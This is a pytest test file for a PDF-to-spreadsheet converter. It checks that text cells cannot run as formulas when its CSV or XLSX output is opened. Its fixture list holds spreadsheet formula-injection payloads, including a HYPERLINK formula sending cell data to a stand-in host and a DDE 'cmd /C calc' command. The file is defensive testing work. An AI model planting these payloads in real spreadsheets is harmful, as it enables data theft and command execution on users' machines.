"""Spreadsheet-ready outputs: ``targets.xlsx`` (typed cells, frozen header, autofilter, widths, the
outcomes and flags sheets) and no cell that runs as a formula when ``targets.csv`` is opened — checked
by opening it with LibreOffice headless (Debian package ``libreoffice-calc-nogui``) and reading the
result back with openpyxl."""

from __future__ import annotations

import csv
import dataclasses
import random
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pyarrow.parquet as pq
import pytest
from conftest import run_renaksi
from conftest import target_row as row

from normalize.flags import FLAGS
from renaksi.formulas import neutralise, would_be_formula
from renaksi.writers import OUTCOME_COLUMNS, Outcome, rows_to_table, table_to_csv_bytes, write_outputs
from schemas.contract import CONTRACT_COLUMNS

HOSTILE = [
    '=HYPERLINK("http://x.example/?a="&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+A1",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]


# a hostile document's cells: in the indicator, the responsible and the printed target; then plain rows
ROWS = [row(indicator=text, responsible=text, target_raw=text, target_value=None, quarter=1 + i % 4)
        for i, text in enumerate(HOSTILE)] + [
    row(target_value=None, target_unit=None, target_raw="-"),  # a dash target
    row(quarter=3, target_value=-5.0, target_raw="-5", confidence=0.85, flags=("low_confidence",),
        target_bbox=(412.5, 100.25, 470.0, 112.75)),
    row(target_value=125450000.0, target_unit="rupiah", target_raw="Rp 125.450.000"),
    row(target_value=80.5, target_raw="80,5 %"),
]
OUTCOMES = [Outcome("a.pdf", "in/a.pdf", "converted", 7, len(ROWS), 1.5, "", "", "2026-12-03T18:00:00Z", "ab" * 32,
                    "/archive/in/a.pdf"),
            Outcome("=1+1.pdf", "in/=1+1.pdf", "failed", 0, 0, 0.1, "not a PDF: it is an HTML page; download it again")]


def test_what_a_spreadsheet_would_run_as_a_formula() -> None:
    assert all(would_be_formula(text) for text in HOSTILE)
    assert [neutralise(t) for t in ("=1+1", "-2+3", "- Daging", "@x")] == ["'=1+1", "'-2+3", "'- Daging", "'@x"]
    for text in ("-", "-5", "-2,5", "-1.000.000", "-5%", "95%", "Persentase", "", "1+1", "'=1+1"):
        assert neutralise(text) == text, text


def soffice() -> str:
    for name in ("soffice", "libreoffice"):
        if found := shutil.which(name):
            return found
    pytest.skip("LibreOffice not found: install the Debian package 'libreoffice-calc-nogui'")


def open_in_libreoffice(csv_path: Path, tmp_path: Path) -> openpyxl.Workbook:
    """``csv_path`` opened by LibreOffice as a person's double-click would, saved as .xlsx, read back."""
    profile = tmp_path / "lo-profile"  # a profile of its own: runs beside another LibreOffice
    proc = subprocess.run([soffice(), "--headless", f"-env:UserInstallation={profile.as_uri()}", "--convert-to",
                           "xlsx", "--outdir", str(tmp_path / "lo"), str(csv_path)],
                          capture_output=True, text=True, timeout=180)
    converted = tmp_path / "lo" / (csv_path.stem + ".xlsx")
    assert converted.is_file(), proc.stdout + proc.stderr
    return openpyxl.load_workbook(converted)


def formulas_and_values(book: openpyxl.Workbook) -> tuple[list[str], list[list[object]]]:
    sheet = book.worksheets[0]
    formulas = [c.coordinate for line in sheet.iter_rows() for c in line if c.data_type == "f"]
    return formulas, [[c.value for c in line] for line in sheet.iter_rows()]


def test_the_check_catches_a_formula(tmp_path: Path) -> None:
    """Without neutralising, LibreOffice does run such a cell: the test below would see it."""
    raw = tmp_path / "raw.csv"
    with open(raw, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["indicator"], ["=1+1"], [HOSTILE[0]]])
    formulas, _values = formulas_and_values(open_in_libreoffice(raw, tmp_path))
    assert formulas == ["A2", "A3"]


def test_hostile_text_stays_text_when_the_csv_is_opened(tmp_path: Path) -> None:
    table = rows_to_table(ROWS)
    write_outputs(tmp_path, table, OUTCOMES)
    formulas, values = formulas_and_values(open_in_libreoffice(tmp_path / "targets.csv", tmp_path))
    assert formulas == []
    header, lines = values[0], values[1:]
    assert header == list(CONTRACT_COLUMNS)
    column = {name: [line[i] for line in lines] for i, name in enumerate(header)}
    for name in ("indicator", "responsible", "target_raw"):
        # text, shown with the leading ' that kept it text (a carriage return written as a line feed)
        assert column[name][:len(HOSTILE)] == ["'" + text.replace("\r", "\n") for text in HOSTILE], name
    # real numbers and a '-' target unchanged
    assert column["target_raw"][len(HOSTILE):] == ["-", -5, "Rp 125.450.000", "80,5 %"]
    assert column["target_value"] == [None] * (len(HOSTILE) + 1) + [-5, 125450000, 80.5]
    assert column["quarter"][:4] == [1, 2, 3, 4]
    # Parquet keeps the text exactly as read
    parquet = pq.read_table(tmp_path / "targets.parquet")
    assert parquet.column("indicator").to_pylist()[:len(HOSTILE)] == HOSTILE


def test_workbook_has_typed_cells_and_no_formula(tmp_path: Path) -> None:
    write_outputs(tmp_path, rows_to_table(ROWS), OUTCOMES)
    book = openpyxl.load_workbook(tmp_path / "targets.xlsx")
    assert book.sheetnames == ["targets", "outcomes", "flags"]
    targets = book["targets"]
    assert targets.freeze_panes == "A2"
    assert targets.auto_filter.ref == f"A1:S{len(ROWS) + 1}"
    widths = {name: targets.column_dimensions[cell.column_letter].width for name, cell in
              zip(CONTRACT_COLUMNS, targets[1], strict=True)}
    assert 8 <= widths["level"] < widths["indicator"] <= 61 and widths["agency"] > 30
    cells = list(targets.iter_rows())
    assert [c.value for c in cells[0]] == list(CONTRACT_COLUMNS) and all(c.font.b for c in cells[0])
    assert not [c.coordinate for line in cells for c in line if c.data_type == "f"]
    column = {name: [line[i] for line in cells[1:]] for i, name in enumerate(CONTRACT_COLUMNS)}
    for name in ("indicator", "responsible", "target_raw"):  # exactly as read: string cells
        # (a CR is stored as OOXML's escape _x000D_, which Excel shows as the character; openpyxl does not)
        assert [c.value.replace("_x000D_", "\r") for c in column[name][:len(HOSTILE)]] == HOSTILE, name
        assert {c.data_type for c in column[name][:len(HOSTILE)]} == {"s"}
    assert [c.value for c in column["target_raw"][len(HOSTILE):]] == ["-", "-5", "Rp 125.450.000", "80,5 %"]
    assert [c.value for c in column["target_value"]] == [None] * (len(HOSTILE) + 1) + [-5, 125450000, 80.5]
    assert [c.value for c in column["quarter"][:4]] == [1, 2, 3, 4] and column["quarter"][-1].value is None
    assert all(isinstance(c.value, int) and c.data_type == "n" for c in column["fiscal_year"] + column["page"])
    assert column["confidence"][len(HOSTILE) + 1].value == 0.85  # the float32 as printed, not 0.8500000238
    assert column["flags"][len(HOSTILE) + 1].value == "low_confidence"
    assert column["target_bbox"][len(HOSTILE) + 1].value == "412.5 100.25 470 112.75"
    assert column["subkegiatan"][0].value is None  # null: an empty cell

    outcomes = [[c.value for c in line] for line in book["outcomes"].iter_rows()]
    assert outcomes[0] == list(OUTCOME_COLUMNS)
    assert outcomes[1][:6] == ["a.pdf", "in/a.pdf", "converted", 7, len(ROWS), 1.5]
    assert outcomes[2][0] == "=1+1.pdf" and book["outcomes"]["A3"].data_type == "s"
    assert [[c.value for c in line] for line in book["flags"].iter_rows()] == [["flag", "meaning"]] + [
        [name, meaning] for name, meaning in FLAGS.items()]


def test_csv_neutralises_only_text_columns() -> None:
    text = table_to_csv_bytes(rows_to_table(ROWS)).decode("utf-8")
    lines = list(csv.DictReader(text.splitlines()))
    assert lines[0]["indicator"] == "'" + HOSTILE[0] and lines[0]["target_value"] == ""
    assert lines[len(HOSTILE)]["target_raw"] == "-"
    assert lines[len(HOSTILE) + 1]["target_value"] == "-5" and lines[len(HOSTILE) + 1]["target_raw"] == "-5"
    assert lines[len(HOSTILE) + 1]["target_bbox"] == "412.5 100.25 470 112.75"


def hostile_pdf(path: Path) -> Path:
    """A generated Excel-export plan whose first program indicator and responsible are hostile."""
    from samples.generator.content import build_plan
    from samples.generator.families import registry
    from samples.generator.render import PdfInfo, write_pdf

    family = registry()["excel"]
    plan = build_plan(random.Random("excel:1:content"), family.shape)
    program = plan.sasaran[0].programs[0]
    program.indicators[0] = dataclasses.replace(program.indicators[0], text=HOSTILE[0])
    program.responsible = HOSTILE[1]
    write_pdf(family.render(plan, random.Random("excel:1:layout")), path, PdfInfo(title="Rencana Aksi", author="X"))
    return path


def test_a_hostile_document_converts_to_spreadsheets_that_run_nothing(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    hostile_pdf(folder / "hostile.pdf")
    result = run_renaksi([str(folder), "-q"], tmp_path / "out")
    assert result.returncode == 0, result.stderr
    parquet = pq.read_table(tmp_path / "out" / "targets.parquet").to_pylist()
    hit = [i for i, r in enumerate(parquet) if r["indicator"] == HOSTILE[0]]
    assert hit and all(parquet[i]["responsible"] == HOSTILE[1] for i in hit)  # Parquet: as read

    formulas, values = formulas_and_values(open_in_libreoffice(tmp_path / "out" / "targets.csv", tmp_path))
    assert formulas == []
    indicator, responsible = CONTRACT_COLUMNS.index("indicator"), CONTRACT_COLUMNS.index("responsible")
    assert {(values[i + 1][indicator], values[i + 1][responsible]) for i in hit} == {
        ("'" + HOSTILE[0], "'" + HOSTILE[1])}

    book = openpyxl.load_workbook(tmp_path / "out" / "targets.xlsx")
    cells = list(book["targets"].iter_rows())
    assert not [c.coordinate for line in cells for c in line if c.data_type == "f"]
    assert {(cells[i + 1][indicator].value, cells[i + 1][responsible].value) for i in hit} == {(HOSTILE[0], HOSTILE[1])}
